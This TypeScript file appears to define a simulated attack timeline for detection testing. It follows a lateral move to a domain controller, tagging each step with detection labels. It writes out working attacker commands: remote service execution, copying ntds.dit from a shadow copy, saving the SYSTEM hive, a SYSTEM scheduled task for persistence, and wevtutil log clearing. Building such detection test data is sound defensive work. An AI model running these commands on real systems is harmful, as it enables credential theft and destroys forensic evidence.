import { PROGRAMS } from '../programs.js';
import { Script } from '../script.js';
import type { Step } from '../step.js';

const SHADOW = '\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3';

const wks = new Script('WKS-17');
const dc = new Script('DC-01');

/** On to the domain controller: a service from afar, the password database out of a shadow copy, the traces. */
export const domain: readonly Step[] = [
  // On to the domain controller with what was found there.
  wks.start(
    '09:10:40.014',
    'l1',
    'high',
    'cmd',
    'C:\\Windows\\system32\\cmd.exe /c net use \\\\DC-01\\ADMIN$ /user:CONTOSO\\adm.brandt',
    { lives: 1.2 },
    'loader_started_shell',
  ),
  wks.start(
    '09:10:40.061',
    'l2',
    'l1',
    'net',
    'net  use \\\\DC-01\\ADMIN$ /user:CONTOSO\\adm.brandt',
    { lives: 1.1 },
    'discovery_below_suspicious_parent',
    'admin_share_mounted',
  ),
  wks.connect('09:10:40.212', 'system', '192.0.2.10', 445),
  wks.file('09:10:51.440', 'high', 'create', PROGRAMS.remotetool.path, 'program_dropped_in_shared_folder'),
  wks.start(
    '09:10:57.826',
    'px',
    'high',
    'remotetool',
    `${PROGRAMS.remotetool.path} \\\\DC-01 -s cmd.exe`,
    { lives: 245 },
    'program_run_from_odd_folder',
  ),

  dc.logon('09:10:58.402', 'logon', 'brandt', 3, '192.0.2.117'),
  dc.file(
    '09:10:58.655',
    'system',
    'create',
    PROGRAMS.psexesvc.path,
    'remote_service_tool_dropped',
    'program_written_over_smb',
  ),
  dc.registry(
    '09:10:58.871',
    'services',
    'set',
    'HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC\\Start',
    'DWORD (0x00000003)',
  ),
  dc.registry(
    '09:10:58.872',
    'services',
    'set',
    'HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC\\ImagePath',
    '%%SystemRoot%%\\PSEXESVC.exe',
    'service_installed',
  ),
  dc.start(
    '09:10:58.940',
    'psx',
    'services',
    'psexesvc',
    PROGRAMS.psexesvc.path,
    { lives: 242 },
    'remote_service_tool_started',
  ),
  dc.start(
    '09:10:59.317',
    'shell',
    'psx',
    'cmd',
    '"cmd.exe" ',
    { lives: 240 },
    'remote_service_tool_ran_command',
  ),
  dc.start(
    '09:11:12.690',
    'i1',
    'shell',
    'whoami',
    'whoami',
    { lives: 0.2 },
    'whoami_run_as_system',
    'discovery_below_suspicious_parent',
  ),

  // The password database of the domain, out of a shadow copy.
  dc.start(
    '09:11:48.205',
    'n1',
    'shell',
    'vssadmin',
    'vssadmin  create shadow /for=C:',
    { lives: 6.4 },
    'shadow_copy_created_by_command',
  ),
  dc.start('09:11:48.730', 'vss', 'services', 'vssvc', 'C:\\Windows\\system32\\vssvc.exe'),
  dc.start(
    '09:12:06.118',
    'n2',
    'shell',
    'cmd',
    `cmd.exe  /c copy ${SHADOW}\\Windows\\NTDS\\ntds.dit C:\\Windows\\Temp\\ntds.dit`,
    { lives: 2.9 },
    'file_taken_from_shadow_copy',
    'ntds_dump_by_command',
  ),
  dc.file('09:12:06.331', 'n2', 'create', 'C:\\Windows\\Temp\\ntds.dit', 'ntds_file_created'),
  dc.start(
    '09:12:21.554',
    'n3',
    'shell',
    'reg',
    'reg  save hklm\\system C:\\Windows\\Temp\\sys.hiv /y',
    { lives: 1.3 },
    'registry_hive_saved',
  ),
  dc.file('09:12:21.702', 'n3', 'create', 'C:\\Windows\\Temp\\sys.hiv'),

  // A way back in, then the traces.
  dc.start(
    '09:13:02.447',
    't1',
    'shell',
    'schtasks',
    'schtasks  /create /tn "\\Microsoft\\Windows\\Sync\\SyncSvc" /tr "rundll32.exe C:\\Windows\\Temp\\syncsvc.dll,Start" /sc onstart /ru SYSTEM',
    { lives: 0.3 },
    'scheduled_task_runs_interpreter',
  ),
  dc.file(
    '09:13:02.611',
    'schedule',
    'create',
    'C:\\Windows\\System32\\Tasks\\Microsoft\\Windows\\Sync\\SyncSvc',
  ),
  dc.file('09:13:44.926', 'system', 'delete', 'C:\\Windows\\Temp\\ntds.dit'),
  dc.file('09:13:45.010', 'system', 'delete', 'C:\\Windows\\Temp\\sys.hiv'),
  dc.start(
    '09:14:20.083',
    'c1',
    'shell',
    'wevtutil',
    'wevtutil  cl Security',
    { lives: 0.4 },
    'event_log_cleared_by_command',
  ),
  dc.clearSecurityLog('09:14:20.291', 'system'),
  dc.start(
    '09:14:27.519',
    'c2',
    'shell',
    'wevtutil',
    'wevtutil  cl System',
    { lives: 0.3 },
    'event_log_cleared_by_command',
  ),
  dc.file('09:15:03.208', 'system', 'delete', PROGRAMS.psexesvc.path),
  dc.logon('09:15:04.990', 'logoff', 'brandt', 3),
  wks.start(
    '09:15:31.774',
    'c3',
    'high',
    'wevtutil',
    'wevtutil.exe cl "Windows PowerShell"',
    { lives: 0.2 },
    'event_log_cleared_by_command',
  ),
];
